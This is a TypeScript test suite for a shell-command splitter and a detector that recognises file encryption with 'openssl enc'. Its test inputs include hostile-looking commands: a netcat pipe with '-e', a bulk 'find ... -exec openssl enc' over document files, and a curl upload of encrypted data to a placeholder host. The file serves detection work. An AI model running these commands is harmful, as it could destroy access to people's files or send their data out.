import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { createRecogniser } from '../recognise.ts';
import { TextView } from '../layers/text-view.ts';
import { wordOffset } from './command-word.ts';
import { splitPosixCommands } from './posix-commands.ts';

function split(text: string): string[][] {
  return splitPosixCommands(new TextView(0, text)).map(({ words }) => words.map((word) => word.text));
}

describe('splitPosixCommands', () => {
  it.each([
    ['a "b c" \'d "e\'', [['a', 'b c', 'd "e']]],
    ['a b\\ c "x\\"y" "k\\z"', [['a', 'b c', 'x"y', 'k\\z']]],
    ['a | b && c; d & e', [['a'], ['b'], ['c'], ['d'], ['e']]],
    ["printf $'\\x6f\\160e\\u006e'", [['printf', 'open']]],
    ['echo a#b # and no more', [['echo', 'a#b']]],
    ['a \\\n b', [['a', 'b']]],
    [
      'x=$(id -u) run',
      [
        ['id', '-u'],
        ['x=$(id -u)', 'run'],
      ],
    ],
    ['echo "`id`"', [['id'], ['echo', '`id`']]],
    ['', []],
  ])('splits %j', (text, expected) => {
    expect(split(text)).toEqual(expected);
  });

  it('takes redirections out and names their files', () => {
    const [command] = splitPosixCommands(new TextView(0, 'gpg -c < in.txt 2>/dev/null >out.gpg 2>&1'));
    expect(command?.words.map((word) => word.text)).toEqual(['gpg', '-c']);
    expect(command?.inputs).toEqual(['in.txt']);
    expect(command?.outputs).toEqual(['/dev/null', 'out.gpg']);
  });

  it('reads commands inside substitutions', () => {
    expect(split('tar c d | nc h 1 -e "$(openssl enc -aes-128-cbc)"')).toContainEqual([
      'openssl',
      'enc',
      '-aes-128-cbc',
    ]);
  });

  it.each([
    "find /srv -name '*.doc' -exec openssl enc -aes-256-cbc -k x -in {} -out {}.enc \\;",
    'for f in *; do sudo -u root openssl enc -aes-256-cbc -k x -in "$f"; done',
    'ls | xargs -I{} openssl enc -aes-256-cbc -in {} -k x',
    'FOO=1 exec -a kworker openssl enc -aes-256-cbc -k x',
    "bash -lc 'openssl enc -aes-256-cbc -k x < a > b'",
    'curl -F f=@<(openssl enc -aes-256-cbc -k x -in a) https://h.example.com',
  ])('sees the tool in %s', (text) => {
    const { operations } = createRecogniser().recogniseCommandLine(text, 'posix');
    expect(operations.map(({ rule }) => rule)).toEqual(['tool/openssl-enc']);
  });

  it('never fails, and knows where plain characters stand', () => {
    const unit = fc.constantFrom(
      'a',
      ' ',
      '"',
      "'",
      '\\',
      '$',
      '(',
      ')',
      '`',
      '|',
      '>',
      '<',
      '&',
      '\n',
      '#',
      'x',
      '4',
    );
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 80 }), (text) => {
        for (const { words } of splitPosixCommands(new TextView(0, text)))
          for (const word of words)
            for (let index = 0; index < word.text.length; index++)
              expect(wordOffset(word, index)).toBeLessThan(text.length);
      }),
    );
  });
});
